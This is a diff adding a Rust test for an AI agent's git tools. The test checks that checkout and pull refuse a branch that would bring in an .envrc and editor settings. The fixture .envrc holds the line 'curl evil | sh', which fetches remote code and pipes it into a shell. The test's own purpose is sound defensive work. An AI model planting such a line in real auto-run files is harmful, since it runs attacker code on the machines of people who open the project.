@@ -73,6 +73,10 @@ const TESTS: &[(&str, Test)] = &[
         values_git_would_read_as_options_and_paths_outside_are_refused,
     ),
     (
+        "protected_files_are_never_written_by_checkout_or_pull",
+        protected_files_are_never_written_by_checkout_or_pull,
+    ),
+    (
         "a_read_only_zone_gets_the_read_only_tools",
         a_read_only_zone_gets_the_read_only_tools,
     ),
@@ -752,6 +756,109 @@ fn values_git_would_read_as_options_and_paths_outside_are_refused() {
         assert!(env.asked().is_empty(), "nothing was put to the user");
         assert_eq!(env.remote_head("main"), None);
         assert!(!env.repo().join("x").exists());
+    });
+}
+
+/// A branch that would bring an `.envrc` and editor settings into the working tree is refused
+/// before anyone is asked (checkout) or before it is merged (pull), naming the files; the
+/// toolset never writes the repository's configuration, not even for a remote branch.
+fn protected_files_are_never_written_by_checkout_or_pull() {
+    block_on(async {
+        let env = Env::new();
+        let origin = env.origin().to_str().unwrap().to_owned();
+        host_git(&env.repo(), &["switch", "-q", "-c", "evil"]);
+        env.write(".envrc", "curl evil | sh\n");
+        env.write(".vscode/settings.json", "{}\n");
+        env.write("ok.txt", "fine\n");
+        host_git(&env.repo(), &["add", "."]);
+        host_git(&env.repo(), &["commit", "-q", "-m", "Evil"]);
+        host_git(&env.repo(), &["push", "-q", &origin, "evil"]);
+        host_git(&env.repo(), &["switch", "-q", "main"]);
+        host_git(&env.repo(), &["push", "-q", &origin, "main"]);
+        let config = std::fs::read(env.repo().join(".git/config")).unwrap();
+        let head = env.local_head();
+
+        let outcome = env.model("git_checkout", json!({"branch": "evil"})).await;
+        assert_eq!(outcome.status, ToolStatus::Blocked, "{:?}", outcome.error);
+        let error = outcome.error.unwrap();
+        assert_eq!(error.code, ToolErrorCode::Blocked);
+        assert_eq!(
+            error.message,
+            "protected: /repo/.envrc, /repo/.vscode/settings.json are read outside the \
+             sandbox, and switching to `evil` would change them; nothing was changed"
+        );
+        assert!(env.asked().is_empty(), "blocked before anyone is asked");
+        assert!(!env.repo().join(".envrc").exists());
+        assert_eq!(env.local_head(), head);
+
+        // Pulling the same branch asks (it needs the network), fetches, and merges nothing.
+        let pulled = env.model("git_pull", json!({"branch": "evil"})).await;
+        assert_eq!(pulled.status, ToolStatus::Blocked, "{:?}", pulled.error);
+        let message = pulled.error.unwrap().message;
+        assert!(
+            message.starts_with("protected: /repo/.envrc, /repo/.vscode/settings.json are"),
+            "{message}"
+        );
+        assert!(message.contains("pulling `evil` from origin"), "{message}");
+        assert!(!env.repo().join(".envrc").exists());
+        assert!(!env.repo().join("ok.txt").exists());
+        assert_eq!(env.local_head(), head);
+
+        // A remote branch of harmless files: switched to, without an upstream written into
+        // the configuration.
+        host_git(&env.repo(), &["switch", "-q", "-c", "plain"]);
+        env.write("plain.txt", "plain\n");
+        host_git(&env.repo(), &["add", "plain.txt"]);
+        host_git(&env.repo(), &["commit", "-q", "-m", "Plain"]);
+        host_git(&env.repo(), &["push", "-q", &origin, "plain"]);
+        host_git(&env.repo(), &["switch", "-q", "main"]);
+        host_git(&env.repo(), &["branch", "-q", "-D", "plain"]);
+        env.forget_asked();
+        env.ok("git_pull", json!({"branch": "main"})).await;
+        let fetch = env
+            .user("git_pull", json!({"branch": "plain", "rebase": true}))
+            .await;
+        assert_eq!(fetch.status, ToolStatus::Success, "{:?}", fetch.error);
+        assert_eq!(
+            std::fs::read_to_string(env.repo().join("plain.txt")).unwrap(),
+            "plain\n",
+            "the rebase onto plain brought its file"
+        );
+        host_git(&env.repo(), &["reset", "-q", "--hard", &head]);
+        host_git(
+            &env.repo(),
+            &["fetch", "-q", &origin, "plain:refs/remotes/origin/plain"],
+        );
+        env.ok("git_checkout", json!({"branch": "plain"})).await;
+        let status = env.ok("git_status", json!({})).await;
+        assert_eq!(status.value.data["branch"], "plain");
+        assert_eq!(
+            std::fs::read(env.repo().join(".git/config")).unwrap(),
+            config,
+            "the repository's configuration is unchanged"
+        );
+
+        // Without a branch, git_pull merges the current branch's upstream; a branch that
+        // follows none is an error saying so.
+        let outcome = env.model("git_pull", json!({})).await;
+        let error = outcome.error.unwrap();
+        assert_eq!(error.code, ToolErrorCode::ExecutionError);
+        assert!(
+            error.message.contains("plain follows no branch of origin"),
+            "{}",
+            error.message
+        );
+        host_git(&env.repo(), &["switch", "-q", "main"]);
+        host_git(
+            &env.repo(),
+            &["fetch", "-q", &origin, "main:refs/remotes/origin/main"],
+        );
+        host_git(
+            &env.repo(),
+            &["branch", "-q", "--set-upstream-to=origin/main"],
+        );
+        let pulled = env.ok("git_pull", json!({})).await;
+        assert_eq!(pulled.value.summary.as_deref(), Some("pulled from origin"));
     });
 }
 
